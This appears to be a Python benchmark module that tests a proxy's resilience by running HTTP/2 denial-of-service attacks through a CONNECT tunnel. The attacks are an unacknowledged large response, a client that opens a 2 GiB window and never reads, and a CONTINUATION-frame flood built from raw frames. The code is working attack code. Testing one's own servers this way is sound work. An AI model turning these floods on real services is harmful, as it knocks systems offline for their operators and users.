"""The attacks of `benchmarks.attacks` over HTTP/2."""

import asyncio
import ssl
import time

import h2.config
import h2.connection
import h2.events
from h2.settings import SettingCodes

from benchmarks.assault import BULK, GIVE_UP, MIB, Target


class Raw(asyncio.Protocol):
    """Bytes in, bytes out; `reading` may be switched off."""

    def __init__(self) -> None:
        self.got: asyncio.Queue[bytes] = asyncio.Queue()

    def connection_made(self, transport) -> None:
        self.transport = transport

    def data_received(self, data: bytes) -> None:
        self.got.put_nowait(data)

    def connection_lost(self, exc) -> None:
        self.got.put_nowait(b"")


async def tunnel_h2(target: Target) -> tuple[Raw, asyncio.BaseTransport]:
    """HTTP/2 with the proxy inside CONNECT."""
    door = target.https
    reader, writer = await target.dial()
    writer.write(door.connect_head())
    await reader.readuntil(b"\r\n\r\n")
    context = ssl.create_default_context(cafile=door.ca)
    context.set_alpn_protocols(["h2"])
    raw = Raw()
    loop = asyncio.get_running_loop()
    name = door.server_name
    made = await loop.start_tls(writer.transport, raw, context, server_hostname=name)
    raw.connection_made(made)
    raw.kept = writer  # a forgotten StreamWriter closes its transport
    if made.get_extra_info("ssl_object").selected_alpn_protocol() != "h2":
        raise ConnectionError("no HTTP/2")
    return raw, made


def _get(target: Target, path: str) -> list[tuple[str, str]]:
    return [(":method", "GET"), (":scheme", "https"), (":authority", target.https.origin), (":path", path)]


async def h2_unacknowledged(target: Target, *, window: int = 65_535, read: bool = True) -> str:
    """A large response over HTTP/2 that is never acknowledged by a window update."""
    raw, transport = await tunnel_h2(target)
    talk = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    talk.local_settings[SettingCodes.INITIAL_WINDOW_SIZE] = window
    talk.initiate_connection()
    if window > 65_535:
        talk.increment_flow_control_window(window - 65_535)
    talk.send_headers(1, _get(target, f"/big?{BULK}"), end_stream=True)
    transport.write(talk.data_to_send())
    if not read:
        transport.pause_reading()
    got, until = 0, time.monotonic() + 12
    while (left := until - time.monotonic()) > 0:
        try:
            data = await asyncio.wait_for(raw.got.get(), left)
        except TimeoutError:
            break
        if not data:
            break
        got += sum(len(e.data) for e in talk.receive_data(data) if isinstance(e, h2.events.DataReceived))
        transport.write(talk.data_to_send())
    transport.abort()
    return f"{got:,} bytes sent to it in 12 s" if read else "12 s without reading"


async def h2_open_window(target: Target) -> str:
    """A client that opens its window to 2 GiB and then reads nothing."""
    return await h2_unacknowledged(target, window=2**31 - 1, read=False)


async def h2_continuation(target: Target) -> str:
    """A header block over HTTP/2 that never ends."""
    _, transport = await tunnel_h2(target)
    talk = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    talk.initiate_connection()
    field = b"\x00\x07x-atack" + b"\x7f\x81\x7e" + b"a" * 16_384  # literal, not indexed
    part = field[:16_384]
    transport.write(talk.data_to_send() + _frame(1, 0x1, b"\x82\x87"))
    sent, until = 0, time.monotonic() + GIVE_UP
    while sent < 200 * MIB and not transport.is_closing() and time.monotonic() < until:
        transport.write(_frame(9, 0, part))
        sent += len(part)
        await asyncio.sleep(0)
        if transport.get_write_buffer_size() > MIB:
            await asyncio.sleep(0.01)
    how = "closed" if transport.is_closing() else "all taken"
    transport.abort()
    return f"{how} after {sent / MIB:.1f} MiB"


def _frame(kind: int, flags: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + (1).to_bytes(4) + payload
